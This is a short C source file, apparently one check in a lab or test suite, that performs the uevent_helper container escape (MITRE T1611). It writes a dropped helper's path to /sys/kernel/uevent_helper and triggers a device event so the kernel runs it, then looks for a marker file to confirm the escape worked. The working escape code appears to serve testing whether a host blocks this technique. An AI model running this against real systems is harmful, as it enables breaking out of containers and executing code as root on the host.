// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G1, G3. Names the program that the kernel runs when a device appears, and lets one appear.
 * Source: root-paths, "uevent_helper"; MITRE T1611 (uevent_helper escapes). Control: the program runs.
 */
#define _GNU_SOURCE
#include <unistd.h>

#include "attack.h"

void attack(void)
{
	const char *mark = "/tmp/lab-uevent-ran", *helper = "/sys/kernel/uevent_helper";
	bool done;

	drop_helper("/tmp/lab-uevent", mark);
	write_text(helper, "/tmp/lab-uevent");
	write_text("/sys/class/mem/null/uevent", "change");
	done = file_begins_soon(mark, FOREIGN_TEXT);
	write_text(helper, "\n");
	if (done)
		effect();
	no_effect(0);
}
